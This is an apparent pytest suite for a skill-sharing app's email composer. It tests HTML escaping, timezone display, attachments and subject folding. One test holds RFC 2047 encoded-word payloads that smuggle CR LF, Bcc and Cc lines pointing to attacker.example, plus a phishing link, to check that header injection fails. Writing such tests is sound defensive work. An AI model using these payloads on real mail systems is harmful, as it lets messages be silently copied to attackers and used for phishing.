"""Every kind of mail renders from its templates: a subject line, a text part with no HTML in
it, an escaped HTML part, and the headers and attachments the caller asked for."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta
from email import message_from_bytes
from email.headerregistry import AddressHeader
from email.policy import compat32
from email.policy import default as default_policy

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from jinja2 import UndefinedError

import skillswap.mail.message as message_module
from skillswap.mail import KINDS, Attachment, CalendarInvite, Recipient, compose, render
from tests.mail.conftest import SENDER, START

HOSTILE = '<script>alert("x")</script> & Co'
NOW = datetime(2026, 11, 1, 5, 0, tzinfo=UTC)  # 01:00 EDT, an hour that happens twice
SESSION = {"start": NOW, "end": NOW + timedelta(hours=1)}

# One context per kind, every value hostile where the template shows text someone typed.
CONTEXTS: dict[str, dict[str, object]] = {
    "password_reset": {"link": "https://s.test/reset/t?a=1&b=2", "expires_at": NOW},
    "password_changed": {"changed_at": NOW, "reset_url": "https://s.test/forgot"},
    "verify_email": {"address": "x@s.test", "link": "https://s.test/v/t", "expires_at": NOW},
    "email_change_notice": {
        "new_address": "new@s.test",
        "requested_at": NOW,
        "reset_url": "https://s.test/forgot",
    },
    "booking_confirmed": {
        "title": HOSTILE,
        "skill": HOSTILE,
        "mode": "Online",
        "other_name": HOSTILE,
        "teaching": True,
        "link": "https://s.test/b/1",
    }
    | SESSION,
    "booking_changed": {
        "title": HOSTILE,
        "skill": HOSTILE,
        "mode": "Online",
        "other_name": HOSTILE,
        "teaching": False,
        "was_start": NOW - timedelta(days=1),
        "was_end": NOW - timedelta(days=1) + timedelta(hours=1),
        "by_you": False,
        "note": HOSTILE,
        "link": "https://s.test/b/1",
    }
    | SESSION,
    "booking_cancelled": {
        "title": HOSTILE,
        "skill": HOSTILE,
        "mode": "Online",
        "other_name": HOSTILE,
        "teaching": False,
        "reason": HOSTILE,
        "by_you": False,
        "link": "https://s.test/b/1",
    }
    | SESSION,
    "session_reminder": {
        "title": HOSTILE,
        "skill": HOSTILE,
        "mode": "Online",
        "other_name": HOSTILE,
        "teaching": True,
        "link": "https://s.test/b/1",
    }
    | SESSION,
    "review_reminder": {
        "title": HOSTILE,
        "skill": HOSTILE,
        "other_name": HOSTILE,
        "closes_at": NOW + timedelta(days=14),
        "closing": True,
        "link": "https://s.test/b/1/review",
    }
    | SESSION,
    "review_received": {
        "title": HOSTILE,
        "skill": HOSTILE,
        "reviewer_name": HOSTILE,
        "visible": False,  # both links show (a visible one has no rate link)
        "rating": 5,
        "rating_max": 10,
        "comment": HOSTILE,
        "closes_at": NOW + timedelta(days=14),
        "link": "https://s.test/b/1",
        "rate_link": "https://s.test/b/1/review",
    }
    | SESSION,
    "waitlist_hold": {
        "skill": HOSTILE,
        "teacher_name": HOSTILE,
        "until": NOW + timedelta(hours=2),
        "link": "https://s.test/book/t?skill=x&slot=o:s",
    }
    | SESSION,
}
TAG = re.compile(r"</?[a-z][a-z0-9]*[\s>/]", re.IGNORECASE)
ANN = Recipient("Ann", "ann@example.org", "America/New_York")


def test_every_kind_has_a_sample_context_here() -> None:
    assert set(CONTEXTS) == KINDS


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_every_kind_renders_subject_text_and_html(kind: str) -> None:
    subject, text, html = render(kind, ANN, CONTEXTS[kind])

    assert subject and "\n" not in subject
    assert text.startswith("Hi Ann,\n")
    # The text part is plain text: no tag comes from a template, and a typed "<script>" is
    # shown as typed (it is not HTML there).
    assert TAG.findall(text.replace("<script>", "").replace("</script>", "")) == []
    assert "&lt;" not in text and "&amp;" not in text
    assert html.startswith("<!doctype html>")
    assert "<script>" not in html, "typed text is escaped in the HTML part"
    if HOSTILE in str(CONTEXTS[kind].values()):
        assert "&lt;script&gt;" in html
    for value in CONTEXTS[kind].values():
        if isinstance(value, str) and value.startswith("https://"):
            assert value in text
            assert value.replace("&", "&amp;") in html


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_times_name_the_zone_and_tell_a_repeated_hour_apart(kind: str) -> None:
    _, text, html = render(kind, ANN, CONTEXTS[kind])
    assert "(America/New_York)" in text
    assert "(America/New_York)" in html
    # 05:00 UTC on 1 Nov 2026 is the first 01:00 in New York: EDT, not EST.
    assert "01:00 EDT" in text


def test_a_missing_context_value_is_an_error_not_a_blank() -> None:
    with pytest.raises(UndefinedError):
        render("password_reset", ANN, {"link": "https://s.test/r"})


def test_an_unknown_kind_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown kind of mail 'pasword_reset'"):
        render("pasword_reset", ANN, {})


def test_an_unknown_zone_reads_as_utc() -> None:
    nowhere = Recipient("Ann", "ann@example.org", "Mars/Olympus_Mons")
    _, text, _ = render("password_reset", nowhere, CONTEXTS["password_reset"])
    assert "Sun 1 Nov 2026, 05:00 (UTC)" in text


# RFC 2047 encoded words that decode to CR LF and header lines: plain ASCII, so no form's
# "one line" check sees them. The email package decoded them on the way in and (on Pythons
# before 3.11.10 / 3.12.5, CVE-2024-6923) wrote the CR LF out raw: an outside probe had its
# title and display name add Bcc and Cc lines, start the body early, and take the owner's own
# address off a reset mail.
INJECTED_TITLE = (
    "=?utf-8?q?Py=0D=0ABcc:evil@attacker.example=0D=0A=0D=0AClick_http://phish.example?="
)
INJECTED_NAME = "=?utf-8?q?Leo=0D=0ACc:spy@attacker.example?="


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_typed_text_never_becomes_header_lines(kind: str) -> None:
    context = {
        key: INJECTED_TITLE if value == HOSTILE else value for key, value in CONTEXTS[kind].items()
    }
    leo = Recipient(INJECTED_NAME, "leo@example.org", "UTC")
    sent = compose(kind, leo, context, sender=SENDER, now=START).as_bytes()

    received = message_from_bytes(sent, policy=default_policy)
    assert received["Cc"] is None and received["Bcc"] is None
    assert [a.addr_spec for a in received["To"].addresses] == ["leo@example.org"]
    assert "\n" not in str(received["Subject"]) and "\r" not in str(received["Subject"])
    assert received.get_content_type() == "multipart/alternative"
    assert b"\r\nBcc:" not in sent and b"\r\nCc:" not in sent and b"\nBcc:" not in sent
    # The text stays what was typed, shown, not obeyed.
    assert "Leo=0D=0ACc:spy@attacker.example" in str(received["To"])
    if INJECTED_TITLE in context.values() and kind != "review_received":
        assert "Bcc:evil@attacker.example" in str(received["Subject"])


def test_compose_refuses_to_set_its_own_headers_twice() -> None:
    with pytest.raises(ValueError, match="sets subject itself"):
        compose(
            "password_reset",
            ANN,
            CONTEXTS["password_reset"],
            sender=SENDER,
            now=START,
            headers={"subject": "Win a prize"},
        )


def test_an_invite_must_carry_the_method_it_claims() -> None:
    # Cal.com sent cancellations as METHOD:REQUEST, so the event stayed in calendars.
    request = b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nEND:VCALENDAR\r\n"
    with pytest.raises(ValueError, match="no METHOD:CANCEL"):
        CalendarInvite(request, "CANCEL")
    with pytest.raises(ValueError, match="REQUEST or CANCEL"):
        CalendarInvite(request, "PUBLISH")  # type: ignore[arg-type]


def test_other_attachments_are_kept_byte_for_byte() -> None:
    data = bytes(range(256)) * 4
    message = compose(
        "review_received",
        ANN,
        CONTEXTS["review_received"],
        sender=SENDER,
        now=START,
        attachments=[Attachment(data, "application/pdf", "notes.pdf")],
    )
    assert message.get_content_type() == "multipart/mixed"
    (attachment,) = message.iter_attachments()
    assert attachment.get_filename() == "notes.pdf"
    assert attachment.get_content_type() == "application/pdf"
    assert attachment.get_content() == data


def test_every_body_part_is_seven_bit_safe() -> None:
    zoe = Recipient("Zoë", "zoe@example.org", "Europe/Berlin")
    message = compose(
        "booking_confirmed", zoe, CONTEXTS["booking_confirmed"], sender=SENDER, now=START
    )
    raw = message.as_bytes()
    assert max(raw) < 128, "no relay needs 8BITMIME"
    assert "Hi Zoë," in message.get_body(("plain",)).get_content()


def test_kept_header_classes_write_the_same_mail_as_the_stock_registry(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The policy keeps one header class a name; the mail is byte for byte what the standard
    library's own registry writes, non-ASCII names, addresses and an invite included."""
    zoe = Recipient("Zoë Ünal", "zoe@example.org", "Europe/Berlin")
    invite = CalendarInvite(b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nEND:VCALENDAR\r\n", "REQUEST")
    context = CONTEXTS["booking_confirmed"]
    headers = {"List-Unsubscribe": "<https://skillswap.test/u/abc>"}

    def mail() -> bytes:
        monkeypatch.setattr(message_module, "make_msgid", lambda domain: "<1@skillswap.test>")
        made = compose(
            "booking_confirmed",
            zoe,
            context,
            sender=SENDER,
            now=START,
            headers=headers,
            invite=invite,
        )
        return re.sub(rb"=+\d+==", b"BOUNDARY", made.as_bytes())  # random per mail

    kept = mail()
    monkeypatch.setattr(message_module, "MAIL_POLICY", message_module.MailPolicy(cte_type="7bit"))
    assert mail() == kept
    registry = message_module.KeptHeaderClasses()
    assert registry["Subject"] is registry["subject"]
    assert registry["To"] is not registry["Subject"]
    assert issubclass(registry["To"], AddressHeader)


def test_a_long_unsubscribe_address_goes_out_as_the_address() -> None:
    """A mail provider reads List-Unsubscribe as written, with no RFC 2047 decoding (RFC 2369):
    the standard library wrote a URL longer than a line as encoded words, and Gmail's one-click
    button never showed."""
    url = "https://skillswap.example.org/unsubscribe/" + "a1B2-c3_D4" * 12
    headers = {
        "List-Unsubscribe": f"<{url}>",
        "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",
    }
    message = compose(
        "booking_confirmed",
        ANN,
        CONTEXTS["booking_confirmed"],
        sender=SENDER,
        now=START,
        headers=headers,
    )
    for sent in (message.as_bytes(), message.as_string().encode("ascii")):
        raw = message_from_bytes(sent, policy=compat32)
        assert raw["List-Unsubscribe"] == f"<{url}>"
        assert raw["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"


@settings(max_examples=300, deadline=None)
@example('Pointers, refs; & <i>more</i> \\ about "C" — ünïcödé long title that goes on and on')
@given(
    st.text(
        alphabet=st.sampled_from(list("abcXYZ019 ,.;:\"'()-—–ünïcödéßøç€日本語🙂")),
        min_size=1,
        max_size=120,
    ).filter(str.strip)
)
def test_a_subject_arrives_as_it_was_written(title: str) -> None:
    # Python 3.11's fold dropped the space between an encoded word and the next one in about
    # one subject in twelve with accented words ("— ünïcödé" arrived as "—ünïcödé").
    context = CONTEXTS["booking_cancelled"] | {"title": title}
    message = compose("booking_cancelled", ANN, context, sender=SENDER, now=START)
    received = message_from_bytes(message.as_bytes(), policy=default_policy)
    assert str(received["Subject"]) == str(message["Subject"])


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_no_sentence_ends_twice_nor_brackets_nest(kind: str) -> None:
    """A name ending in a full stop ended a sentence with two ("Kiran Rao, Jr.."), and a time
    named its zone in brackets inside brackets ("(Chess, 09:00–10:00 (UTC))")."""
    named = "Kiran Rao, Jr."
    context = {
        key: named if key.endswith("_name") else value for key, value in CONTEXTS[kind].items()
    }
    for by_you in (False, True):  # both wordings, where a kind has two
        message = compose(kind, ANN, context | {"by_you": by_you}, sender=SENDER, now=START)
        text = message.get_body(("plain",)).get_content()
        assert "Jr.." not in text and "))" not in text
        html = message.get_body(("html",)).get_content()
        assert "Jr..<" not in html and "))" not in re.sub(r"<[^>]+>", "", html)
